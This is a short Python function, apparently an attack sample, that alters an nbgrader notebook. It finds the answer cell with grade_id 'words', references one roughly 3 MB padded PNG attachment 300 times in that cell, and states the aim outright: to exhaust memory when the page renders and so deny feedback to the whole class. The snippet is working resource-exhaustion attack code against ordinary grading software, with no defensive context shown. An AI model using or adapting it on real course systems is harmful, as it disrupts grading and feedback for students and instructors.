"""Drop a picture of 3 MB into an answer, and show it 300 times there.

Gain: the page of one student takes all memory, and with it the feedback of the class.
"""


def forge(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "words":
            cell.source = "![a](attachment:p)" * 300
            cell.attachments = {"p": {"image/png": "iVBORw0KGgoA" + "A" * 3_000_000}}
